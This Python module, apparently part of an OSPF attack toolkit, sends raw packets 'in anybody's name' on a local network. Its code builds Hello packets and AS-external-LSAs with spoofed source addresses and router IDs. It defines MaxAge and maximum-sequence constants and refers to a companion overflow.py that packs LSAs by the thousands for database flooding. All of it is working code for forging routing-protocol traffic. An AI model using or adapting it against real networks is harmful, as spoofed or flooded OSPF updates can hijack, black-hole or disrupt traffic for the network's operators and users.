"""OSPF packets in anybody's name, and a way to send them on one network.

Scapy makes the packets, with right lengths and checksums, those of LSAs too. It knows no digests (RFC 2328 D.4.3), and takes a
millisecond for each LSA: `overflow.py` packs what it needs in thousands itself.
"""

import socket
import time

from scapy.contrib.ospf import OSPF_External_LSA, OSPF_Hdr, OSPF_Hello, OSPF_LSUpd
from scapy.layers.inet import IP

ALL_SPF_ROUTERS = "224.0.0.5"
ALL_D_ROUTERS = "224.0.0.6"
OSPF = 89

MAX_AGE = 3600
MAX_SEQUENCE_NUMBER = 0x7FFFFFFF
E_BIT = "E"


class Lan:
    """Sends on that interface only; the kernel finds the hosts' Ethernet addresses."""

    def __init__(self, interface):
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)

    def send(self, source, router_id, destination, body):
        self.send_payload(source, destination, OSPF_Hdr(src=router_id) / body)

    def send_payload(self, source, destination, payload):
        self.send_datagram(destination, bytes(IP(src=source, dst=destination, proto=OSPF, ttl=1) / payload))

    def send_datagram(self, destination, datagram):
        self._socket.sendto(datagram, (destination, 0))


def hello(mask, intervals, priority, designated, backup, neighbors):
    """A Hello; the intervals are HelloInterval and RouterDeadInterval in seconds."""
    return OSPF_Hello(
        mask=mask,
        hellointerval=intervals[0],
        deadinterval=intervals[1],
        options=E_BIT,
        prio=priority,
        router=designated,
        backup=backup,
        neighbors=neighbors,
    )


def external(link_state_id, mask, advertising_router, sequence, age, metric, forwarding):
    """An AS-external-LSA of metric type 2."""
    return OSPF_External_LSA(
        age=age,
        options=E_BIT,
        id=link_state_id,
        adrouter=advertising_router,
        seq=sequence,
        mask=mask,
        ebit=1,
        metric=metric,
        fwdaddr=forwarding,
    )


def update(*lsas):
    return OSPF_LSUpd(lsalist=list(lsas))


def rounds(seconds, interval):
    """Counts rounds of that interval for so long, and keeps to their times."""
    begin = time.monotonic()
    for number in range(int(seconds / interval) + 1):
        time.sleep(max(0.0, begin + number * interval - time.monotonic()))
        yield number
